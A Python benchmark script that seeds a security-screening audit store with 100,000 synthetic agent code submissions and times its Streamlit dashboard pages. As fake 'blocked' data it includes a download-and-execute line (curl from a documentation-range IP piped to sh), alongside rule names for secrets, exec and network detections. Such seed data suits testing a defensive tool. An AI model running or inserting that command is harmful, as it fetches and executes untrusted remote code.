"""Page render times over a large store: `python tests/dashboard/bench_pages.py [N]`.

Seeds N screenings (default 100,000) into a temporary SQLite store through the
store's own ledger (batched write transactions, so seeding takes about a
minute instead of ten), then renders every page with AppTest against it,
cold (empty query cache) and warm, and prints the times.
"""

from __future__ import annotations

import os
import random
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

RULES = [
    ("AIR-PROC-001", "process", "critical"),
    ("AIR-PROC-002", "process", "high"),
    ("AIR-NET-001", "network", "high"),
    ("AIR-NET-004", "network", "medium"),
    ("AIR-FS-002", "filesystem", "medium"),
    ("AIR-SECRET-001", "secrets", "high"),
    ("AIR-EXEC-001", "code-exec", "critical"),
    ("AIR-DESER-001", "deserialization", "high"),
    ("AIR-OBF-003", "obfuscation", "medium"),
    ("B311", "bandit", "low"),
    ("B404", "bandit", "low"),
]
PAGES = [
    "views/overview.py",
    "views/executions.py",
    "views/review.py",
    "views/alerts.py",
    "views/patterns.py",
    "views/rules.py",
]


def seed_bulk(path: Path, n: int, *, seed: int = 1, batch: int = 2000) -> None:
    """N screenings over 30 days from 40 agents; findings, runs, reviews and alerts among them."""
    from airlock.audit.events import AlertDraft
    from airlock.audit.store import Store
    from airlock.audit.tables import Execution, FindingRow, Review, Screening

    rng = random.Random(seed)
    store = Store(str(path))
    start = datetime.now(UTC) - timedelta(days=30)
    step = timedelta(days=30) / n
    done = 0
    blocked: dict[str, list[int]] = {}
    while done < n:
        with store.writing() as (session, ledger):
            for _ in range(min(batch, n - done)):
                at = start + step * done
                done += 1
                agent = f"agent-{rng.randrange(40):02d}"
                kind = rng.random()
                snippet = rng.randrange(3000)
                code = f"# job {snippet}\nimport json\nprint(json.dumps({{'n': {snippet}}}))\n"
                hits = []
                verdict, gate, score = "allow", "ran", rng.randrange(0, 14)
                if kind > 0.9:
                    verdict, gate, score = "block", "blocked", rng.randrange(70, 101)
                    hits = rng.sample(RULES, 2)
                    code = f"import os\nos.system('curl http://203.0.113.{snippet % 50}/x | sh')\n"
                elif kind > 0.75:
                    verdict, gate, score = "review", "held_for_review", rng.randrange(15, 70)
                    hits = rng.sample(RULES, 1)
                    code = f"import subprocess\nsubprocess.run('ls {snippet}', shell=True)\n"
                sha = f"{hash(code) & (2**256 - 1):064x}"
                screening = Screening(
                    created_at=at,
                    agent_id=agent,
                    user_id=f"user-{rng.randrange(12)}",
                    session_id=f"{agent}-{at:%Y%m%d}",
                    code=code,
                    code_sha256=sha,
                    ruleset="default",
                    ruleset_version="bench",
                    score=score,
                    verdict=verdict,
                    reasons=[{"text": r[0], "rule_ids": [r[0]], "points": 30.0} for r in hits],
                    gate_decision=gate,
                    limits={"timeout_s": 10},
                    scan_ms=3.0,
                    lines=3,
                    review_state="open" if gate == "held_for_review" else None,
                )
                findings = [
                    FindingRow(
                        rule_id=r[0],
                        title=r[0],
                        severity=r[2],
                        confidence="high",
                        category=r[1],
                        line=2,
                        message=f"{r[0]} fired",
                    )
                    for r in hits
                ]
                ran = gate == "ran"
                outcome = rng.choices(["ok", "failed", "timeout", "memory"], [90, 6, 3, 1])[0]
                if ran:
                    screening.outcome = outcome
                ledger.append(screening, findings)
                session.flush()  # runs and reviews reference it
                if ran:
                    ledger.append(
                        Execution(
                            screening_id=screening.id,
                            created_at=at,
                            outcome=outcome,
                            exit_code=0 if outcome == "ok" else 1,
                            timed_out=outcome == "timeout",
                            memory_exceeded=outcome == "memory",
                            stdout="{}",
                            layers=[],
                            files=[],
                            wall_s=0.05,
                        )
                    )
                elif gate == "held_for_review" and rng.random() < 0.5:
                    state = rng.choice(["approved", "denied", "false-positive"])
                    ledger.append(
                        Review(screening_id=screening.id, created_at=at, state=state, by="bench")
                    )
                    screening.review_state = state
                if verdict == "block":
                    blocked.setdefault(agent, []).append(int(screening.id))
    store.record_alerts(
        [
            AlertDraft(
                rule_id="blocked-attempt",
                severity="high",
                title=f"{agent} keeps trying",
                detail="blocked attempts",
                agent_id=agent,
                event_ids=ids[-200:],
                dedup_key=f"blocked:{agent}",
            )
            for agent, ids in blocked.items()
        ]
    )
    store.close()


def time_pages(db: Path) -> list[tuple[str, float, float]]:
    """(page, cold seconds, warm seconds) for every page."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    app = Path(__file__).resolve().parents[2] / "dashboard" / "app.py"
    os.environ["AIRLOCK_DB"] = str(db)
    AppTest.from_file(str(app), default_timeout=120).run()  # imports, engine, analyzer warm
    out = []
    for page in PAGES:
        at = AppTest.from_file(str(app), default_timeout=120)
        at.run()
        at.switch_page(page)
        st.cache_data.clear()
        t0 = time.perf_counter()
        at.run()
        cold = time.perf_counter() - t0
        assert not at.exception and not at.error, [e.value for e in at.exception or at.error]
        assert at.dataframe, page  # the page got as far as its tables
        t0 = time.perf_counter()
        at.run()
        warm = time.perf_counter() - t0
        out.append((page, cold, warm))
        if page == "views/overview.py":  # the widest period is the most expensive one
            at.segmented_control(key="ov_period").set_value("all time")
            st.cache_data.clear()
            t0 = time.perf_counter()
            at.run()
            out.append((page + " (all time)", time.perf_counter() - t0, float("nan")))
    return out


def main() -> None:
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("n", nargs="?", type=int, default=100_000, help="screenings to seed")
    parser.add_argument("--db", type=Path, help="keep the seeded store here (reused if present)")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        db = args.db or Path(tmp) / "bench.db"
        if not db.exists():
            t0 = time.perf_counter()
            seed_bulk(db, args.n)
            size = db.stat().st_size / 1e6
            print(
                f"seeded {args.n:,} screenings in {time.perf_counter() - t0:.1f} s ({size:.0f} MB)"
            )
        for page, cold, warm in time_pages(db):
            print(f"{page:24s} cold {cold:6.3f} s   warm {warm:6.3f} s")


if __name__ == "__main__":
    main()
